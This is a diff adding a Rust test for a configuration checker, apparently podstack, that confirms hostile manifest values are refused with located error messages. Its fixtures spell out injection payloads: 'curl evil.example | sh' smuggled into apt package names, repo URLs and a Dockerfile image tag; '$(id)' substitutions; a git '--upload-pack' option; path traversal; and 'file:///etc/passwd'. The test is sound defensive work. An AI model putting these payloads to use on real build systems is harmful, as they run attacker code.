@@ -205,3 +205,353 @@ fn every_problem_is_reported_at_once() {
         run.stderr
     );
 }
+
+/// The hostile manifests of issue 12, each a change to `valid.toml`: name, text replaced
+/// (empty: the replacement is appended), replacement, `line:col: error: message`, hint. Every
+/// value that would reach a shell, a Dockerfile or pip as code is refused at `check`.
+const HOSTILE: &[(&str, &str, &str, &str, &str)] = &[
+    (
+        "apt-command",
+        "",
+        "\n[system]\napt = [\"ffmpeg; curl evil.example | sh\"]\n",
+        "29:8: error: `ffmpeg; curl evil.example | sh` is not a Debian package name",
+        "a Debian package name is 2 or more of lower-case letters, digits, `+`, `-` and `.`, starting with a letter or digit (Debian policy 5.6.7); no versions, options or spaces",
+    ),
+    (
+        "apt-substitution",
+        "",
+        "\n[system]\napt = [\"ffmpeg\", \"$(id)\"]\n",
+        "29:18: error: `$(id)` is not a Debian package name",
+        "a Debian package name is 2 or more of lower-case letters, digits, `+`, `-` and `.`, starting with a letter or digit (Debian policy 5.6.7); no versions, options or spaces",
+    ),
+    (
+        "apt-backticks",
+        "",
+        "\n[system]\napt = [\"`id`\"]\n",
+        "29:8: error: ``id`` is not a Debian package name",
+        "a Debian package name is 2 or more of lower-case letters, digits, `+`, `-` and `.`, starting with a letter or digit (Debian policy 5.6.7); no versions, options or spaces",
+    ),
+    (
+        "apt-and",
+        "",
+        "\n[system]\napt = [\"ffmpeg && id\"]\n",
+        "29:8: error: `ffmpeg && id` is not a Debian package name",
+        "a Debian package name is 2 or more of lower-case letters, digits, `+`, `-` and `.`, starting with a letter or digit (Debian policy 5.6.7); no versions, options or spaces",
+    ),
+    (
+        "apt-newline",
+        "",
+        "\n[system]\napt = [\"ffmpeg\\nRUN id\"]\n",
+        r#"29:8: error: `ffmpeg\nRUN id` is not a Debian package name"#,
+        "a Debian package name is 2 or more of lower-case letters, digits, `+`, `-` and `.`, starting with a letter or digit (Debian policy 5.6.7); no versions, options or spaces",
+    ),
+    (
+        "apt-option",
+        "",
+        "\n[system]\napt = [\"-oAPT::Update::Pre-Invoke::=id\"]\n",
+        "29:8: error: `-oAPT::Update::Pre-Invoke::=id` is not a Debian package name",
+        "a Debian package name is 2 or more of lower-case letters, digits, `+`, `-` and `.`, starting with a letter or digit (Debian policy 5.6.7); no versions, options or spaces",
+    ),
+    (
+        "wheel-quote",
+        "",
+        "\n[[wheel]]\nurl = \"https://example.com/a\\\"b/x-1.0-py3-none-any.whl\"\n",
+        "29:7: error: `https://example.com/a\"b/x-1.0-py3-none-any.whl` is not written as the URL standard writes it",
+        "write `https://example.com/a%22b/x-1.0-py3-none-any.whl`",
+    ),
+    (
+        "wheel-backticks",
+        "",
+        "\n[[wheel]]\nurl = \"https://example.com/`id`/x-1.0-py3-none-any.whl\"\n",
+        "29:7: error: `https://example.com/`id`/x-1.0-py3-none-any.whl` is not written as the URL standard writes it",
+        "write `https://example.com/%60id%60/x-1.0-py3-none-any.whl`",
+    ),
+    (
+        "wheel-fragment",
+        "",
+        "\n[[wheel]]\nurl = \"https://example.com/x-1.0-py3-none-any.whl#egg=x\"\n",
+        "29:7: error: `https://example.com/x-1.0-py3-none-any.whl#egg=x` has a `#fragment`",
+        "give the hash as `sha256 = \"...\"`; podstack adds `#sha256=` for pip itself",
+    ),
+    (
+        "repo-command",
+        "repo = \"https://github.com/Comfy-Org/ComfyUI\"",
+        "repo = \"https://x; curl evil.example | sh\"",
+        "19:8: error: `https://x; curl evil.example | sh` is not an https git URL: invalid international domain name",
+        "write e.g. `https://github.com/Comfy-Org/ComfyUI`",
+    ),
+    (
+        "repo-upload-pack",
+        "repo = \"https://github.com/Comfy-Org/ComfyUI\"",
+        "repo = \"--upload-pack=touch /tmp/pwned\"",
+        "19:8: error: `--upload-pack=touch /tmp/pwned` is not an https git URL: relative URL without a base",
+        "write e.g. `https://github.com/Comfy-Org/ComfyUI`",
+    ),
+    (
+        "repo-path-substitution",
+        "repo = \"https://github.com/Comfy-Org/ComfyUI\"",
+        "repo = \"https://github.com/x/$(id)\"",
+        "19:8: error: `https://github.com/x/$(id)` is not an https git URL: its path has characters other than letters, digits, `.`, `_`, `~`, `-` and `/`",
+        "write e.g. `https://github.com/Comfy-Org/ComfyUI`",
+    ),
+    (
+        "node-ref",
+        "",
+        "\n[[comfyui.custom_nodes]]\nrepo = \"https://github.com/ltdrdata/ComfyUI-Manager\"\nref = \"main; id\"\n",
+        "30:7: error: `main; id` is not a git branch or tag name",
+        "name a branch or tag of letters, digits, `.`, `_`, `/`, `+` and `-` that `git check-ref-format` allows, not starting with `-`, e.g. `master` or `v0.3.64`",
+    ),
+    (
+        "node-name-command",
+        "",
+        "\n[[comfyui.custom_nodes]]\nrepo = \"https://github.com/ltdrdata/ComfyUI-Manager\"\ncommit = \"00a2ac7f2fcd4f9f0f17abdabc9061b37b6b726a\"\nname = \"x; id\"\n",
+        "31:8: error: `x; id` is not a folder name",
+        "use letters, digits, `.`, `_` and `-`, starting with a letter or digit (at most 100), e.g. `ComfyUI-Manager`",
+    ),
+    (
+        "node-name-up",
+        "",
+        "\n[[comfyui.custom_nodes]]\nrepo = \"https://github.com/ltdrdata/ComfyUI-Manager\"\ncommit = \"00a2ac7f2fcd4f9f0f17abdabc9061b37b6b726a\"\nname = \"../../..\"\n",
+        "31:8: error: `../../..` is not a folder name",
+        "use letters, digits, `.`, `_` and `-`, starting with a letter or digit (at most 100), e.g. `ComfyUI-Manager`",
+    ),
+    (
+        "node-name-empty",
+        "",
+        "\n[[comfyui.custom_nodes]]\nrepo = \"https://github.com/ltdrdata/ComfyUI-Manager\"\ncommit = \"00a2ac7f2fcd4f9f0f17abdabc9061b37b6b726a\"\nname = \"\"\n",
+        "31:8: error: `` is not a folder name",
+        "use letters, digits, `.`, `_` and `-`, starting with a letter or digit (at most 100), e.g. `ComfyUI-Manager`",
+    ),
+    (
+        "node-name-dot",
+        "",
+        "\n[[comfyui.custom_nodes]]\nrepo = \"https://github.com/ltdrdata/ComfyUI-Manager\"\ncommit = \"00a2ac7f2fcd4f9f0f17abdabc9061b37b6b726a\"\nname = \".\"\n",
+        "31:8: error: `.` is not a folder name",
+        "use letters, digits, `.`, `_` and `-`, starting with a letter or digit (at most 100), e.g. `ComfyUI-Manager`",
+    ),
+    (
+        "base-image-newline",
+        "image = \"nvidia/cuda:12.9.1-cudnn-runtime-ubuntu22.04\"",
+        r#"image = "nvidia/cuda:12.9.1-cudnn-runtime-ubuntu22.04\nRUN curl evil.example | sh""#,
+        r#"6:9: error: `nvidia/cuda:12.9.1-cudnn-runtime-ubuntu22.04\nRUN curl evil.example | sh` is not an image reference: `12.9.1-cudnn-runtime-ubuntu22.04\nRUN curl evil.example | sh` is not a tag"#,
+        "write `[registry[:port]/]name[:tag]` as Docker does: lower-case path components of letters and digits joined by `.`, `_`, `__` or dashes, a tag of letters, digits, `_`, `.` and `-` (at most 128), e.g. `nvidia/cuda:12.9.1-cudnn-runtime-ubuntu22.04`",
+    ),
+    (
+        "builder-newline",
+        "python = \"3.11\"",
+        "python = \"3.11\"\nbuilder = \"rust:1.95-alpine\\nRUN id\"",
+        r#"8:11: error: `rust:1.95-alpine\nRUN id` is not an image reference: `1.95-alpine\nRUN id` is not a tag"#,
+        "write `[registry[:port]/]name[:tag]` as Docker does: lower-case path components of letters and digits joined by `.`, `_`, `__` or dashes, a tag of letters, digits, `_`, `.` and `-` (at most 128), e.g. `nvidia/cuda:12.9.1-cudnn-runtime-ubuntu22.04`",
+    ),
+    (
+        "package-name-trailing-dash",
+        "\"xformers==0.0.32.post2\"",
+        "\"xformers==0.0.32.post2\", \"scipy-==1.16.2\"",
+        "16:39: error: `scipy-==1.16.2` is not a PEP 508 requirement: `scipy-` is not a Python package name",
+        "write `name==version`, e.g. `einops==0.8.1`",
+    ),
+    (
+        "package-extra-trailing-dash",
+        "\"xformers==0.0.32.post2\"",
+        "\"xformers==0.0.32.post2\", \"requests[socks-]==2.32.5\"",
+        "16:39: error: `requests[socks-]==2.32.5` is not a PEP 508 requirement: `socks-` is not an extra name",
+        "write `name==version`, e.g. `einops==0.8.1`",
+    ),
+    (
+        "package-pip-option",
+        "\"xformers==0.0.32.post2\"",
+        "\"xformers==0.0.32.post2\", \"einops==0.8.1 --hash=sha256:00\"",
+        "16:39: error: `einops==0.8.1 --hash=sha256:00` is not a PEP 508 requirement: Trailing `--hash=sha256:00` is not allowed",
+        "write `name==version`, e.g. `einops==0.8.1`",
+    ),
+    (
+        "args-output-dir",
+        "users = [\"alice\", \"bob\"]",
+        "users = [\"alice\", \"bob\"]\ncomfyui_args = [\"--output-dir=/etc\"]",
+        "27:17: error: `--output-dir=/etc` is set by podstack (ComfyUI reads it as `--output-directory`)",
+        "remove it: podstack gives each user <volume>/output/<user>",
+    ),
+    (
+        "args-por",
+        "users = [\"alice\", \"bob\"]",
+        "users = [\"alice\", \"bob\"]\ncomfyui_args = [\"--por\", \"9999\"]",
+        "27:17: error: `--por` is set by podstack (ComfyUI reads it as `--port`)",
+        "remove it: set runtime.comfyui_port",
+    ),
+    (
+        "args-liste",
+        "users = [\"alice\", \"bob\"]",
+        "users = [\"alice\", \"bob\"]\ncomfyui_args = [\"--liste\"]",
+        "27:17: error: `--liste` is set by podstack (ComfyUI reads it as `--listen`)",
+        "remove it: podstack listens on all addresses for the pod's proxy",
+    ),
+    (
+        "args-use-sage",
+        "users = [\"alice\", \"bob\"]",
+        "users = [\"alice\", \"bob\"]\ncomfyui_args = [\"--use-sage\"]",
+        "27:17: error: `--use-sage` is set by podstack (ComfyUI reads it as `--use-sage-attention`)",
+        "remove it: set gpu.attention",
+    ),
+    (
+        "args-base-dir",
+        "users = [\"alice\", \"bob\"]",
+        "users = [\"alice\", \"bob\"]\ncomfyui_args = [\"--base-dir\", \"/\"]",
+        "27:17: error: `--base-dir` is set by podstack (ComfyUI reads it as `--base-directory`)",
+        "remove it: podstack sets each folder on its own",
+    ),
+    (
+        "args-ambiguous",
+        "users = [\"alice\", \"bob\"]",
+        "users = [\"alice\", \"bob\"]\ncomfyui_args = [\"--fp16\"]",
+        "27:17: error: `--fp16` is ambiguous: ComfyUI 0.3.64 could read it as --fp16-unet, --fp16-vae, --fp16-text-enc",
+        "write the whole flag",
+    ),
+    (
+        "args-unknown",
+        "users = [\"alice\", \"bob\"]",
+        "users = [\"alice\", \"bob\"]\ncomfyui_args = [\"--no-such-flag\"]",
+        "27:17: error: `--no-such-flag` is not a flag of ComfyUI 0.3.64",
+        "ComfyUI would exit with `unrecognized arguments`; its flags are listed in src/compat/data/comfyui_flags.toml",
+    ),
+    (
+        "args-control-character",
+        "users = [\"alice\", \"bob\"]",
+        "users = [\"alice\", \"bob\"]\ncomfyui_args = [\"--preview-method\", \"auto\\u0000\"]",
+        r#"27:37: error: `auto\u{0}` has a control character"#,
+        "each argument is one word of ComfyUI's command line, without newlines or NUL",
+    ),
+    (
+        "torch-local",
+        "version = \"2.8.0\"",
+        "version = \"2.8.0+cu129\"",
+        "10:11: error: `2.8.0+cu129` has a local version part (`+...`)",
+        "write the public version `2.8.0`; podstack adds the CUDA variant itself",
+    ),
+    (
+        "torch-v",
+        "version = \"2.8.0\"",
+        "version = \"v2.8.0\"",
+        "10:11: error: `v2.8.0` is not a version in its normal form",
+        "write `2.8.0`",
+    ),
+    (
+        "torch-short",
+        "version = \"2.8.0\"",
+        "version = \"2.8\"",
+        "10:11: error: `2.8` is not a full PyTorch release version",
+        "write all three parts as PyTorch publishes it, e.g. `2.8.0`",
+    ),
+    (
+        "model-userinfo-host",
+        "",
+        "\n[[model]]\nurl = \"http://localhost:80@evil.example/x\"\ndest = \"checkpoints/x.safetensors\"\n",
+        "29:7: error: `http://localhost:80@evil.example/x` is not an https URL",
+        "download over https (plain http only from this machine: 127.0.0.1, localhost)",
+    ),
+    (
+        "latest-digest-file",
+        "users = [\"alice\", \"bob\"]",
+        "users = [\"alice\", \"bob\"]\n\n[runtime.verify]\nlatest_digest_url = \"file:///etc/passwd\"",
+        "29:21: error: `file:///etc/passwd` is not an https URL",
+        "download over https (plain http only from this machine: 127.0.0.1, localhost)",
+    ),
+    (
+        "stack-name-dashes",
+        "name = \"bad\"",
+        "name = \"a--b-\"",
+        "2:8: error: stack name `a--b-` is not a valid image name",
+        "use lower-case letters, digits and dashes, starting and ending with a letter or digit (at most 64)",
+    ),
+    (
+        "stack-version-build",
+        "version = \"1.0.0\"\n\n[base]",
+        "version = \"1.0.0+build.1\"\n\n[base]",
+        "3:11: error: `1.0.0+build.1` cannot be part of an image tag: a tag has no `+`",
+        "drop the build metadata (`+...`); a pre-release (`1.0.0-rc.1`) or a new version works",
+    ),
+    (
+        "registry-quote",
+        "",
+        "\n[deploy]\nregistry = 'x\"}'\n",
+        "29:12: error: `x\"}` is not a registry and namespace: `x\"}` is not a path component (lower-case letters and digits, joined by `.`, `_`, `__` or dashes)",
+        "write a registry host and optional lower-case namespace, e.g. `ghcr.io/studio`",
+    ),
+    (
+        "container-disk-zero",
+        "",
+        "\n[deploy]\ncontainer_disk_gb = 0\n",
+        "29:21: error: a container disk of 0 GB is not one a pod can have",
+        "use 1-4096 GB (the default is 50); models and outputs live on the volume",
+    ),
+    (
+        "parallel-zero",
+        "users = [\"alice\", \"bob\"]",
+        "users = [\"alice\", \"bob\"]\n\n[runtime.models]\nparallel = 0",
+        "29:12: error: 0 downloads at a time is not a number a pod can run",
+        "use 1-32 (the default is 2)",
+    ),
+    (
+        "stop-grace-huge",
+        "users = [\"alice\", \"bob\"]",
+        "users = [\"alice\", \"bob\"]\nstop_grace = \"18446744073709551615ms\"",
+        "27:14: error: `18446744073709551615ms` is longer than 30 days, more than podstack ever waits; write at most `720h`",
+        "",
+    ),
+    (
+        "stop-grace-long",
+        "users = [\"alice\", \"bob\"]",
+        "users = [\"alice\", \"bob\"]\nstop_grace = \"2h\"",
+        "27:14: error: a stop grace of 2h is longer than a pod is given to stop",
+        "use at most 1h (the default is 10s); RunPod kills a pod soon after SIGTERM anyway",
+    ),
+    (
+        "sync-interval-zero",
+        "",
+        "\n[sync]\nremote = \"gdrive\"\nbackend = \"drive\"\nroot = \"out\"\nfolders = [{ path = \"output\", mode = \"mirror\" }]\ninterval = \"0s\"\n",
+        "33:12: error: a full pass every 0ms would never pause",
+        "use at least 1s, e.g. `5m` (the default); file events start passes in between",
+    ),
+    (
+        "sync-bwlimit",
+        "",
+        "\n[sync]\nremote = \"gdrive\"\nbackend = \"drive\"\nroot = \"out\"\nfolders = [{ path = \"output\", mode = \"mirror\" }]\nbwlimit = \"x\"\n",
+        "33:11: error: `x` is not an rclone bandwidth limit",
+        "write bytes per second with an optional unit, e.g. `20M` (B, K, M, G, T, P), `10M:5M` for upload:download, `off`, or leave it empty",
+    ),
+];
+
+#[test]
+fn each_hostile_manifest_is_refused_with_its_message_at_its_place() {
+    let valid =
+        std::fs::read_to_string(crate::support::repo().join("tests/fixtures/malformed/valid.toml"))
+            .expect("valid");
+    let dir = tempfile::tempdir().expect("temp dir");
+    for (name, replaced, replacement, located, hint) in HOSTILE {
+        let text = if replaced.is_empty() {
+            format!("{valid}{replacement}")
+        } else {
+            assert_eq!(valid.matches(replaced).count(), 1, "{name}");
+            valid.replace(replaced, replacement)
+        };
+        let path = dir.path().join(format!("{name}.toml"));
+        std::fs::write(&path, text).expect("write");
+        let path = path.display().to_string();
+        let run = podstack(["check", &path]).run();
+        assert_eq!(run.code, Some(1), "{name}: {}", run.stderr);
+        let mut expected = format!("{path}:{located}\n");
+        if !hint.is_empty() {
+            expected.push_str(&format!("  hint: {hint}\n"));
+        }
+        assert!(
+            run.stderr.contains(&expected),
+            "{name}: expected {expected:?} in\n{}",
+            run.stderr
+        );
+        assert!(
+            run.stderr
+                .ends_with(&format!("{path}: 1 error(s); nothing was rendered\n")),
+            "{name}: {}",
+            run.stderr
+        );
+    }
+}
